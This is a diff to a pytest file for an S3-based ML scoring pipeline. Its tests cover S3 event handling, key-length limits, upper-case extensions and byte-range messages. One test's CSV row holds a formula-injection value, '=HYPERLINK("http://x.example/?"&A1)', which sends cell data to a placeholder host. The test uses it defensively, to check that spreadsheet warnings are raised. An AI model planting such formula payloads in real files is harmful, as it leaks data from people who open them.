@@ -8,10 +8,12 @@ import gzip
 import io
 import json
 import zipfile
+from urllib.parse import quote_plus
 
 import boto3
 import pytest
 from botocore.exceptions import ClientError
+from scoring import outputs
 from scoring.logic import Clients, ScoringContext, score_job
 from scoring.messages import Job, RefusedMessage, jobs_from_message, range_message
 from scoring.models import NoChampionYet
@@ -19,6 +21,7 @@ from scoring.ranges import range_jobs
 
 from mlops_core.environment import ScoringEnvironment
 from mlops_core.registry.store import ArtifactIntegrityError, Registry
+from mlops_core.storage import layout
 from mlopsctl.datagen import generate
 from tests.unit.conftest import DATA, MODELS, REGION
 
@@ -47,9 +50,16 @@ def env(aws, config):
 
 
 def put(s3, key: str, body: bytes) -> Job:
-    s3.put_object(Bucket=DATA, Key=key, Body=body)
-    head = s3.head_object(Bucket=DATA, Key=key)
-    return Job(key, head["ETag"].strip('"'), head["ContentLength"])
+    """Put an object; the job its S3 event brings (naming its version in a versioned bucket)."""
+    (job,) = jobs_from_message(put_event(s3, key, body), DATA)
+    return job
+
+
+def put_event(s3, key: str, body: bytes) -> dict:
+    """Put an object; its S3 event notification, as S3 sends it."""
+    response = s3.put_object(Bucket=DATA, Key=key, Body=body)
+    etag, version_id = response["ETag"].strip('"'), response.get("VersionId")
+    return s3_event(quote_plus(key, safe="/"), etag=etag, size=len(body), version_id=version_id)
 
 
 def read_csv(s3, key: str) -> list[dict]:
@@ -64,12 +74,26 @@ def report_of(s3, outcome) -> dict:
     return json.loads(s3.get_object(Bucket=DATA, Key=outcome.detail["outputs"]["report"])["Body"].read())
 
 
-def s3_event(key: str, bucket: str = DATA, event: str = "ObjectCreated:Put") -> dict:
-    return {
-        "Records": [
-            {"eventName": event, "s3": {"bucket": {"name": bucket}, "object": {"key": key, "size": 1, "eTag": "x"}}}
-        ]
-    }
+def s3_event(
+    key: str,
+    bucket: str = DATA,
+    event: str = "ObjectCreated:Put",
+    *,
+    etag: str = "",
+    size: int = 1,
+    version_id: str | None = None,
+) -> dict:
+    """An S3 event notification (`key` as S3 sends it: URL-encoded); `versionId` only when given (S3 sends it
+    for versioned buckets only)."""
+    obj = {"key": key, "size": size, "eTag": etag, **({"versionId": version_id} if version_id else {})}
+    return {"Records": [{"eventName": event, "s3": {"bucket": {"name": bucket}, "object": obj}}]}
+
+
+def event_of(s3, key: str) -> dict:
+    """The S3 event of the object now at `key` (its ETag, size and version; the key URL-encoded, as S3 does)."""
+    head = s3.head_object(Bucket=DATA, Key=key)
+    etag, size, version_id = head["ETag"].strip('"'), head["ContentLength"], head.get("VersionId")
+    return s3_event(quote_plus(key, safe="/"), etag=etag, size=size, version_id=version_id)
 
 
 # ---------------------------------------------------------------------------- the good path
@@ -351,7 +375,7 @@ def test_given_one_failing_file_in_a_batch_when_handled_then_only_it_is_a_batch_
         return {
             "messageId": message_id,
             "receiptHandle": "r",
-            "body": json.dumps(s3_event(key)),
+            "body": json.dumps(event_of(clients.s3, key)),
             "attributes": {},
             "messageAttributes": {},
             "md5OfBody": "",
@@ -404,6 +428,130 @@ def test_given_a_file_over_the_range_size_when_scored_then_fanned_out_and_every_
         assert score_job(part_job, clients=clients, context=settings).status == "scored"
     ids = [r["customer_id"] for k in keys(clients.s3, "predictions/large/") for r in read_csv(clients.s3, k)]
     assert len(ids) == 3000 and len(set(ids)) == 3000
+
+
+# ---------------------------------------------------------------------------- one input's outputs, and no other's
+def test_given_an_input_named_after_another_inputs_etag_when_both_are_scored_then_each_keeps_its_predictions(
+    env, champion
+):
+    """incoming/x/<etag of x.csv>-foo.csv writes predictions/x/<that etag>-foo/...: under the prefix that
+    x.csv's own predictions start with. Scoring x.csv must not take them for its leftovers."""
+    clients, settings = env
+    x = put(clients.s3, "incoming/x.csv", generate(50, seed=1, with_label=False))
+    foo = put(clients.s3, f"incoming/x/{x.etag}-foo.csv", generate(60, seed=2, with_label=False))
+
+    foo_outcome = score_job(foo, clients=clients, context=settings)
+    x_outcome = score_job(x, clients=clients, context=settings)
+
+    assert (foo_outcome.status, x_outcome.status) == ("scored", "scored")
+    assert keys(clients.s3, "predictions/") == sorted(
+        [foo_outcome.detail["outputs"]["predictions"], x_outcome.detail["outputs"]["predictions"]]
+    )
+    assert len(read_csv(clients.s3, foo_outcome.detail["outputs"]["predictions"])) == 60
+
+
+def test_given_shadow_predictions_of_an_input_named_after_another_inputs_etag_then_dropping_leftovers_keeps_them(
+    aws,
+):
+    x = put(aws, "incoming/x.csv", b"a\n1\n")
+    ours = layout.InputOutputs(x.key, x.etag)
+    theirs = layout.InputOutputs(f"incoming/x/{x.etag}-foo.csv", "f00")
+    leftover, kept, other = ours.shadow("v-old"), ours.shadow("v-new"), theirs.shadow("v-new")
+    for key in (leftover, kept, other, theirs.predictions("v-new")):
+        aws.put_object(Bucket=DATA, Key=key, Body=b"id\n")
+
+    outputs.drop_other_predictions(aws, DATA, x, {"outputs": {}, "challenger": {"shadow": kept}})
+
+    assert keys(aws, "shadow/") == sorted([kept, other])
+    assert keys(aws, "predictions/") == [theirs.predictions("v-new")]
+
+
+# ---------------------------------------------------------------------------- keys near S3's limit
+def all_keys(s3) -> list[str]:
+    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=DATA)
+    return [o["Key"] for page in pages for o in page.get("Contents", [])]
+
+
+def test_given_a_key_too_long_for_its_outputs_when_scored_then_rejected_with_a_report_at_a_key_that_fits(env, champion):
+    """S3 takes keys of up to 1,024 bytes; every output key adds a prefix, the ETag and the model version to the
+    input's name, so a 1,000-byte key's outputs cannot be written: without a rejection it would fail on every
+    retry and end in the DLQ with no report."""
+    clients, settings = env
+    key = "incoming/" + "ünïcode-folder/" * 30 + "f" * 480 + ".csv"
+    assert 1000 <= len(key.encode()) <= 1024
+    body = generate(20, seed=3, with_label=False)
+    job = put(clients.s3, key, body)
+
+    outcome = score_job(job, clients=clients, context=settings)
+
+    assert outcome.status == "rejected"
+    report = report_of(clients.s3, outcome)
+    assert report["kind"] == "key_too_long" and report["key"] == key and "shortened name" in report["error"]
+    assert clients.s3.get_object(Bucket=DATA, Key=report["copy"])["Body"].read() == body
+    assert max(len(k.encode()) for k in all_keys(clients.s3)) <= 1024
+    assert keys(clients.s3, "predictions/") == [] and clients.cloudwatch.metric_values("FilesRejected") == [1.0]
+    assert score_job(job, clients=clients, context=settings).status == "skipped"  # its receipt was found again
+
+
+def test_given_a_long_file_name_that_fits_when_rejected_then_its_copy_is_named_to_fit(env, champion):
+    """A 780-byte file name is scored under its own name, but the rejected copy repeats it after the folder:
+    rejected/<name>/<etag>/<file name> would be twice as long as S3 takes."""
+    clients, settings = env
+    key = "incoming/" + "n" * 776 + ".csv"
+    body = b"not,the,columns\n1,2,3\n"
+
+    outcome = score_job(put(clients.s3, key, body), clients=clients, context=settings)
+
+    report = report_of(clients.s3, outcome)
+    assert (outcome.status, report["kind"]) == ("rejected", "missing_columns")
+    assert f"/{'n' * 700}" in outcome.detail["outputs"]["report"]  # filed under its own name
+    assert clients.s3.get_object(Bucket=DATA, Key=report["copy"])["Body"].read() == body
+    assert report["copy"].endswith(".csv") and max(len(k.encode()) for k in all_keys(clients.s3)) <= 1024
+
+
+# ---------------------------------------------------------------------------- upper-case extensions
+@pytest.mark.parametrize(
+    ("name", "body"), [("UPPER.CSV", generate(30, seed=4)), ("upper.CSV.GZ", gzip.compress(generate(30, seed=4)))]
+)
+def test_given_an_upper_case_extension_when_scored_then_read_as_csv_and_filed_under_its_name(env, champion, name, body):
+    """Windows and older exports write .CSV; the bucket notifies scoring of .CSV and .CSV.GZ as of .csv and .csv.gz."""
+    clients, settings = env
+    outcome = score_job(put(clients.s3, f"incoming/{name}", body), clients=clients, context=settings)
+    assert (outcome.status, outcome.detail["scored"]) == ("scored", 30)
+    assert outcome.detail["outputs"]["predictions"].startswith(f"predictions/{name.split('.')[0]}/")
+
+
+# ---------------------------------------------------------------------------- bad rows opened in a spreadsheet
+def test_given_bad_rows_with_formula_cells_when_partly_scored_then_the_report_warns_where_they_are(env, champion):
+    """bad_rows.csv is for people to correct in a spreadsheet, which may run a cell starting with = + - @ as a
+    formula. The cells stay verbatim (they are the rows to fix and upload again); the report says which."""
+    clients, settings = env
+    lines = generate(400, seed=9, with_label=False).decode().splitlines()
+    lines[5] = '=HYPERLINK("http://x.example/?"&A1),not-a-number,1,1,1,one-year,card'
+    lines[10] = "C10,-5,1,@SUM(1),-2+3,one-year,card"  # -5: a number, not a formula
+    lines[20] = "C20,7,1,1,1,weekly,card"  # bad, but harmless
+    job = put(clients.s3, "incoming/formulas.csv", ("\n".join(lines) + "\n").encode())
+
+    outcome = score_job(job, clients=clients, context=settings)
+
+    assert outcome.status == "scored" and outcome.detail["bad_rows"] == 3
+    warning = report_of(clients.s3, outcome)["spreadsheet_warning"]
+    assert warning["cells"] == 3 and "formula" in warning["warning"] and "text" in warning["warning"]
+    assert warning["first"] == [{"line": 1, "column": 1}, {"line": 2, "column": 4}, {"line": 2, "column": 5}]
+    bad = clients.s3.get_object(
+        Bucket=DATA, Key=outcome.detail["outputs"]["report"].replace("report.json", "bad_rows.csv")
+    )
+    assert bad["Body"].read().decode().splitlines()[0].startswith('"=HYPERLINK(')  # verbatim
+
+
+def test_given_bad_rows_without_formula_cells_then_the_report_has_no_warning(env, champion):
+    clients, settings = env
+    lines = generate(400, seed=9, with_label=False).decode().splitlines()
+    lines[5] = "C5,-3,1,1,1,weekly,card"
+    outcome = score_job(
+        put(clients.s3, "incoming/plain-bad.csv", ("\n".join(lines) + "\n").encode()), clients=clients, context=settings
+    )
+    assert outcome.detail["bad_rows"] == 1 and "spreadsheet_warning" not in report_of(clients.s3, outcome)
 
 
 # ---------------------------------------------------------------------------- untrusted byte-range messages
@@ -492,3 +640,23 @@ def test_given_byte_ranges_pinned_to_the_champion_and_to_earlier_ones_then_each_
         (parsed,) = jobs_from_message(json.loads(range_message(first)), DATA)
         outcome = score_job(parsed, clients=clients, context=ranged)
         assert outcome.status == "scored" and outcome.detail["model_version"] == pinned
+
+
+def test_given_a_large_upper_case_csv_when_fanned_out_then_its_byte_ranges_are_accepted_and_scored(env, champion):
+    clients, settings = env
+    job, ranged = large_file(clients, settings, "LARGE")
+    upper = put(clients.s3, "incoming/LARGE.CSV", clients.s3.get_object(Bucket=DATA, Key=job.key)["Body"].read())
+    parts = range_jobs(upper, champion, ranged.config.scoring.byte_range_bytes)
+
+    outcomes = []
+    for part in parts:
+        (parsed,) = jobs_from_message(json.loads(range_message(part)), DATA)
+        outcomes.append(score_job(parsed, clients=clients, context=ranged))
+
+    assert [o.status for o in outcomes] == ["scored", "scored"] and sum(o.detail["scored"] for o in outcomes) == 600
+
+
+@pytest.mark.parametrize("object_version", [7, ["v"], ""])
+def test_given_a_byte_range_naming_no_real_object_version_then_refused(object_version):
+    with pytest.raises(RefusedMessage, match="object version"):
+        jobs_from_message(range_body(object_version=object_version), DATA)
